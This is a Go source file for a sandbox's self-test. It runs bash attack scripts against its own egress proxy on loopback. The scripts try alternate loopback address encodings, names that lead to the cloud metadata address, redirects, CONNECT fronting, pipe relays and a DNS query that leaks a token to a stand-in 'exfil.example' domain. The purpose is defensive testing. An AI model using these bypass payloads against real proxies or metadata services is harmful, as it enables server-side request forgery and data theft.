package app

import (
	"context"
	"crypto/rand"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"log"
	"net"
	"net/http"
	"net/http/httputil"
	"net/netip"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/dns/dnsmessage"

	"sallyport/internal/action"
	"sallyport/internal/egress"
	"sallyport/internal/egress/fakedns"
	"sallyport/internal/egress/proxy"
	"sallyport/internal/fault"
	"sallyport/internal/label"
	"sallyport/internal/policy"
	"sallyport/internal/principal"
	"sallyport/internal/record"
	"sallyport/internal/sandbox"
	"sallyport/internal/sandbox/selftest"
)

// The names that the selftest's policy lists. Two lead where no rule for
// private addresses lets them.
const (
	siteName     = "site.selftest.example"
	inwardName   = "inward.selftest.example"
	metadataName = "metadata.selftest.example"
	otherName    = "other.selftest.example" // served by the same host as siteName; no rule of the policy lists it
)

var (
	loopback4   = netip.AddrFrom4([4]byte{127, 0, 0, 1})
	streetHosts = map[string][]netip.Addr{
		siteName: {loopback4}, otherName: {loopback4}, inwardName: {loopback4}, metadataName: {netip.AddrFrom4([4]byte{169, 254, 169, 254})},
	}
)

// street is what there is to reach, on loopback, and a sandbox beside it whose
// outlet is to keep its payload from reaching it.
type street struct {
	token    string // what an attack is to get
	secret   uint16 // port of a service that is nobody's business; says the token
	site     uint16 // port of a listed site, which also serves another host
	naive    uint16 // port of a forwarder that decides nothing: the control's outlet
	resolver uint16 // port of a name server that only listens
	hits     atomic.Int64
	heard    syncedText // what the name server was asked, byte for byte
	denied   syncedText // names that the sandbox's own refused

	box *sandbox.Sandbox
}

// syncedText collects text from several goroutines.
type syncedText struct {
	mu sync.Mutex
	b  strings.Builder
}

func (t *syncedText) add(s string) {
	t.mu.Lock()
	defer t.mu.Unlock()
	t.b.WriteString(s + "\n")
}

func (t *syncedText) has(s string) bool {
	t.mu.Lock()
	defer t.mu.Unlock()
	return strings.Contains(t.b.String(), s)
}

var errNoOutlet = fault.New("app.selftest", fault.Unsupported, "the landlock tier has no connections whose way out could be attacked; use the full tier")

// open plants the street and starts the sandbox, once.
func (o *outer) open(ctx context.Context) (*street, error) {
	switch {
	case o.street != nil:
		return o.street, nil
	case o.tier == sandbox.TierLandlock:
		return nil, errNoOutlet
	}
	var raw [8]byte
	_, _ = rand.Read(raw[:]) // never fails
	s := &street{token: hex.EncodeToString(raw[:])}
	if err := s.plant(ctx, o); err != nil {
		return nil, err
	}
	dir, err := o.scratch()
	if err != nil {
		return nil, err
	}
	s.box, err = startOuter(ctx, sandbox.Spec{
		View: sandbox.ViewWorkspace, MinTier: sandbox.TierFull, Workdir: dir, Network: sandbox.NetworkHandoff,
		Env: []string{"PATH=/usr/bin:/bin"},
	}, sandbox.TierFull)
	if err != nil {
		return nil, err
	}
	o.later(func() { _ = s.box.Close() })
	if err := s.serve(ctx, o); err != nil {
		return nil, err
	}
	o.street = s
	return s, nil
}

// plant starts the services outside.
func (s *street) plant(ctx context.Context, o *outer) error {
	serve := func(h http.Handler) (uint16, error) {
		l, err := (&net.ListenConfig{}).Listen(ctx, "tcp", "127.0.0.1:0")
		if err != nil {
			return 0, err
		}
		srv := &http.Server{Handler: h, ReadHeaderTimeout: probePatience}
		go func() { _ = srv.Serve(l) }()
		o.later(func() { _ = srv.Close() })
		return netip.MustParseAddrPort(l.Addr().String()).Port(), nil
	}
	var errs [4]error
	s.secret, errs[0] = serve(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		s.hits.Add(1)
		fmt.Fprintln(w, s.token)
	}))
	s.site, errs[1] = serve(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		host, _, _ := net.SplitHostPort(r.Host)
		switch {
		case host == otherName:
			s.hits.Add(1)
			fmt.Fprintln(w, s.token)
		case r.URL.Path == "/redirect":
			http.Redirect(w, r, "http://"+hostPort(proxy.Dest{Host: "127.0.0.1", Port: s.secret})+"/", http.StatusFound)
		default:
			fmt.Fprintln(w, "welcome")
		}
	}))
	s.naive, errs[2] = serve(forwarder())
	pc, err := (&net.ListenConfig{}).ListenPacket(ctx, "udp", "127.0.0.1:0")
	if err != nil {
		return errors.Join(append(errs[:], err)...)
	}
	o.later(func() { _ = pc.Close() })
	s.resolver = netip.MustParseAddrPort(pc.LocalAddr().String()).Port()
	go func() {
		buf := make([]byte, 4096)
		for {
			n, from, err := pc.ReadFrom(buf)
			if err != nil {
				return
			}
			s.heard.add(string(buf[:n]))
			_, _ = pc.WriteTo(buf[:n], from) // an answer of any kind: the question has arrived
		}
	}()
	return errors.Join(errs[:]...)
}

// forwarder is an outlet that decides nothing: it looks names up as ours does,
// and connects; to this machine alone, as it is part of a test.
func forwarder() http.Handler {
	dial := func(ctx context.Context, network, addr string) (net.Conn, error) {
		host, port, err := net.SplitHostPort(addr)
		if err != nil {
			return nil, err
		}
		if a := streetHosts[host]; len(a) > 0 {
			host = a[0].String()
		}
		if a, err := netip.ParseAddr(host); err != nil || !a.Unmap().IsLoopback() {
			return nil, fmt.Errorf("no such address on this machine: %q", host)
		}
		return (&net.Dialer{Timeout: probePatience}).DialContext(ctx, network, net.JoinHostPort(host, port)) //nolint:forbidigo // the control connects to what it planted
	}
	plain := &httputil.ReverseProxy{ErrorLog: log.New(io.Discard, "", 0), Transport: &http.Transport{DialContext: dial, DisableKeepAlives: true}, Rewrite: func(*httputil.ProxyRequest) {}}
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Method != http.MethodConnect {
			plain.ServeHTTP(w, r)
			return
		}
		up, err := dial(r.Context(), "tcp", r.Host)
		if err != nil {
			http.Error(w, "no", http.StatusBadGateway)
			return
		}
		defer func() { _ = up.Close() }()
		down, _, err := http.NewResponseController(w).Hijack()
		if err != nil {
			return
		}
		defer func() { _ = down.Close() }()
		_, _ = io.WriteString(down, "HTTP/1.1 200 OK\r\n\r\n")
		go func() { _, _ = io.Copy(up, down) }()
		_, _ = io.Copy(down, up)
	})
}

// serve joins the sandbox's listeners with the real outlet: names, proxy,
// dialer, and the real policy. Only the log is left out: nothing here is an
// agent's.
func (s *street) serve(ctx context.Context, o *outer) error {
	const profile = "selftest"
	rule := func(host string, port uint16) policy.NetRule {
		return policy.NetRule{Host: host, Ports: []uint16{port}, Clearance: label.Bottom, Result: label.Bottom, Origin: "selftest"}
	}
	rules, err := policy.New(policy.Settings{
		Profiles: map[string]policy.Profile{profile: {Exec: true, View: label.Bottom, Network: []policy.NetRule{
			rule(siteName, s.site), rule(inwardName, s.secret), rule(metadataName, s.secret), rule("127.0.0.1", s.secret),
		}}},
		Agents: map[string]policy.Agent{profile: {Profile: profile}},
	})
	if err != nil {
		return err
	}
	dial := egress.New(egress.Config{Hosts: streetHosts, Allow: []egress.Rule{{Name: siteName, Port: s.site}, {Name: otherName, Port: s.site}}, DialTimeout: time.Second})
	names := fakedns.New(fakedns.Options{
		Allowed:  func(name string) bool { return rules.NameAllowed(profile, name) },
		OnDenied: func(name string, _ int) { s.denied.add(name) },
	})
	server, err := proxy.New(proxy.Config{
		Dial: dial.DialContext, Judge: unlogged{rules, profile}, Names: names, Original: sandbox.OriginalDst,
		Level: func(d proxy.Dest) proxy.Level {
			if _, each := rules.NetworkLevel(profile, d.Host, d.Port, d.Program); each {
				return proxy.LevelRequest
			}
			return proxy.LevelConnect
		},
	})
	if err != nil {
		return err
	}
	ctx, cancel := context.WithCancel(context.WithoutCancel(ctx))
	var served sync.WaitGroup
	hand := s.box.Handoff()
	served.Go(func() { _ = names.Serve(ctx, hand.DNS, hand.DNSTCP) })
	served.Go(func() { _ = server.Serve(ctx, hand.TCP...) })
	o.later(func() { cancel(); served.Wait() })
	return nil
}

// unlogged asks the policy as the gate does, and writes nothing down.
type unlogged struct {
	rules *policy.Engine
	agent string
}

// Connect implements proxy.Judge.
func (j unlogged) Connect(_ context.Context, d proxy.Dest) (proxy.Passage, error) {
	return j.decide(action.NetConnect, hostPort(d), map[string]any{"host": d.Host, "port": strconv.Itoa(int(d.Port)), "program": d.Program})
}

// Request implements proxy.Judge.
func (j unlogged) Request(_ context.Context, d proxy.Dest, r *proxy.RequestInfo) (proxy.Passage, error) {
	return j.decide(action.HTTPRequest, origin(r.Scheme, d.Host, d.Port)+r.Path, map[string]any{
		"host": d.Host, "port": strconv.Itoa(int(d.Port)), "method": r.Method, "path": r.Path, "query": r.Query, "program": d.Program,
	})
}

func (j unlogged) decide(kind action.Kind, target string, args map[string]any) (proxy.Passage, error) {
	d := j.rules.Decide(record.Question{
		Action: action.Action{
			Kind: kind, Target: target, Args: args, Agent: j.agent, Session: j.agent, Context: j.agent, Principal: principal.ForAgent(j.agent),
		},
		Snapshot: record.Snapshot{Context: label.Bottom, Ceiling: label.Bottom}, Args: label.Bottom, Now: time.Now(),
	})
	if d.Verdict != record.Allow { // nobody is there to be asked
		return nil, fault.New("app.selftest", fault.Denied, "%s", d.Because)
	}
	return unrecorded{}, nil
}

// unrecorded is a permission that nobody settles.
type unrecorded struct{}

// End implements proxy.Passage.
func (unrecorded) End(proxy.Stats) {}

// outletAttack is one way past an outlet. Its script runs twice: outside with
// the forwarder as its outlet, inside with ours. Its arguments are the port of
// the outlet, of the secret service and of the site; see outletTools.
type outletAttack struct {
	probe  string
	script string
	first  string // status of the first answer, without which nothing was tried; empty if all are to be refused
}

// outletTools are the scripts' words. say sends a request and prints the answer
// behind a line that counts it; through asks the outlet for a URL.
const outletTools = `
out=$1 secret=$2 site=$3
say() { # text to send, on descriptor 3
	printf "$1" >&3
	echo; echo "answer: $(timeout 2 cat <&3 | tr -d '\r\0' | head -c 4000)"
}
through() { # URL
	local rest=${1#http://}
	exec 3<>/dev/tcp/127.0.0.1/$out || return
	say "GET $1 HTTP/1.1\r\nHost: ${rest%%/*}\r\nConnection: close\r\n\r\n"
	exec 3>&-
}
`

// outletAttacks are made by their cases.
var outletAttacks = map[int]outletAttack{
	22: {probe: "address-through-outlet", script: `
		for a in 127.0.0.1 2130706433 0x7f000001 0177.0.0.1 127.1 localhost 0.0.0.0 [::1] [::ffff:127.0.0.1] [::ffff:7f00:1] [64:ff9b::7f00:1]; do
			through http://$a:$secret/
		done`},
	23: {probe: "name-leading-inwards", script: `
		through http://` + inwardName + `:$secret/
		[ $out = ` + strconv.Itoa(sandbox.ProxyPort) + ` ] || exit # outside, the rest would ask this machine's resolver, and who knows whom
		through http://` + metadataName + `:$secret/latest/meta-data
		for name in ` + inwardName + ` ` + metadataName + `; do
			exec 3<>/dev/tcp/$name/$secret && say "GET / HTTP/1.1\r\nHost: $name:$secret\r\nConnection: close\r\n\r\n"
		done`},
	24: {probe: "redirect-through-outlet", first: "302", script: `
		page=$(through http://` + siteName + `:$site/redirect)
		echo "$page"
		through "$(sed -n 's/^Location: //p' <<<"$page")"`},
	25: {probe: "fronting-through-outlet", first: "200", script: `
		exec 3<>/dev/tcp/127.0.0.1/$out
		printf 'CONNECT ` + siteName + `:%d HTTP/1.1\r\nHost: ` + siteName + `:%d\r\n\r\n' $site $site >&3
		read -r -u 3 line; echo "answer: $line"
		while [ "$line" != $'\r' ]; do read -r -u 3 line || exit; done
		say "GET / HTTP/1.1\r\nHost: ` + otherName + `:$site\r\nConnection: close\r\n\r\n"`},
	26: {probe: "relay-to-outlet", script: `
		ask=$(mktemp -u) answer=$(mktemp -u)
		mkfifo $ask $answer
		( exec 3<>/dev/tcp/127.0.0.1/$out; cat $ask >&3; timeout 2 cat <&3 >$answer ) & # the relay
		printf "GET http://` + otherName + `:$site/ HTTP/1.1\r\nHost: ` + otherName + `:$site\r\nConnection: close\r\n\r\n" >$ask
		echo; echo "answer: $(timeout 3 cat $answer | tr -d '\r\0')"
		rm -f $ask $answer; wait`},
}

// throughOutlet makes one attack outside and inside.
func (o *outer) throughOutlet(ctx context.Context, a outletAttack) selftest.Result {
	const want = "403"
	s, err := o.open(ctx)
	if err != nil {
		return notTried(a.probe, want, err)
	}
	args := func(outlet uint16) []string {
		return []string{strconv.Itoa(int(outlet)), strconv.Itoa(int(s.secret)), strconv.Itoa(int(s.site))}
	}
	r := selftest.Result{Probe: a.probe, Want: want}
	said, err := script(ctx, "/", outletTools+a.script, args(s.naive)...)
	r.Control = s.outcome(a, said, err, 0)
	before := s.hits.Load()
	said, err = scriptIn(ctx, s.box, outletTools+a.script, args(sandbox.ProxyPort)...)
	r.Inside = s.outcome(a, said, err, s.hits.Load()-before)
	return judged(r)
}

// outcome reads what a script printed. Every answer must be a refusal; the
// service's own count tells of what arrived without an answer.
func (s *street) outcome(a outletAttack, said string, err error, hits int64) string {
	if strings.Contains(said, s.token) || hits > 0 {
		return selftest.Succeeded
	}
	if err != nil {
		return "skipped:" + fault.PublicText(err)
	}
	answers := strings.Split(said, "answer: ")[1:]
	if len(answers) == 0 || a.first != "" && len(answers) == 1 {
		return "skipped:no answer"
	}
	for i, text := range answers {
		status, _, _ := strings.Cut(strings.TrimPrefix(text, "HTTP/1.1 "), " ")
		switch {
		case i == 0 && a.first != "":
			if status != a.first {
				return "skipped:the first step was answered with " + clip(status)
			}
		case status != "403":
			return blockedBy(clip(status))
		}
	}
	return blockedBy("403")
}

// clip makes a short word of foreign text.
func clip(s string) string {
	s = strings.TrimSpace(s)
	return strconv.QuoteToASCII(s[:min(len(s), 20)])
}

// question is case 20: a secret as part of a name, asked of the resolver that
// the machine has. Outside it is one on loopback, which hears it.
func (o *outer) question(ctx context.Context) selftest.Result {
	const probe, want = "question-to-own-resolver", "NXDOMAIN"
	s, err := o.open(ctx)
	if err != nil {
		return notTried(probe, want, err)
	}
	const ask = `
		ask() { exec 3<>/dev/udp/$1/$2 && printf "$q" >&3 && echo "answer: $(timeout 2 dd bs=4096 count=1 status=none <&3 | od -An -v -tx1 | tr -d ' \n')"; exec 3>&-; }
		q=$1; shift
		while [ $# -gt 0 ]; do ask $1 $2; shift 2; done`
	port := strconv.Itoa(int(s.resolver))
	r := selftest.Result{Probe: probe, Want: want, Control: blockedBy("unheard")}
	outside, inside := s.token+"-outside.exfil.example.", s.token+"-inside.exfil.example."
	if _, err := script(ctx, "/", ask, escapedQuestion(outside), "127.0.0.1", port); err != nil {
		r.Control = "skipped:" + err.Error()
	} else if s.heard.has(s.token + "-outside") {
		r.Control = selftest.Succeeded
	}
	// To the name server of resolv.conf, to the one that listens, to one elsewhere.
	said, err := scriptIn(ctx, s.box, ask, escapedQuestion(inside), "127.0.0.1", "53", "127.0.0.1", port, "192.0.2.53", "53")
	answers := strings.Split(said, "answer: ")[1:]
	switch {
	case s.heard.has(s.token + "-inside"):
		r.Inside = selftest.Succeeded
	case err != nil || len(answers) != 3:
		r.Inside = fmt.Sprintf("skipped:%d of 3 questions were asked: %v", len(answers), err)
	case !s.denied.has(strings.TrimSuffix(inside, ".")):
		r.Inside = blockedBy("unheard")
	default:
		r.Inside = blockedBy(want)
		for _, i := range []int{0, 2} {
			if code := answerCode(answers[i]); code != want {
				r.Inside = blockedBy(code)
			}
		}
	}
	return judged(r)
}

// escapedQuestion is a question for the address of a name, as printf takes it.
func escapedQuestion(name string) string {
	m := dnsmessage.Message{
		Header:    dnsmessage.Header{ID: 1, RecursionDesired: true},
		Questions: []dnsmessage.Question{{Name: dnsmessage.MustNewName(name), Type: dnsmessage.TypeA, Class: dnsmessage.ClassINET}},
	}
	b, err := m.Pack()
	if err != nil {
		return ""
	}
	var s strings.Builder
	for _, c := range b {
		fmt.Fprintf(&s, `\x%02x`, c)
	}
	return s.String()
}

// answerCode reads the code of an answer in hexadecimal.
func answerCode(text string) string {
	b, err := hex.DecodeString(strings.TrimSpace(text))
	var p dnsmessage.Parser
	head, parseErr := p.Start(b)
	switch {
	case err != nil || parseErr != nil || !head.Response:
		return "no answer"
	case head.RCode == dnsmessage.RCodeNameError:
		return "NXDOMAIN"
	default:
		return head.RCode.String()
	}
}
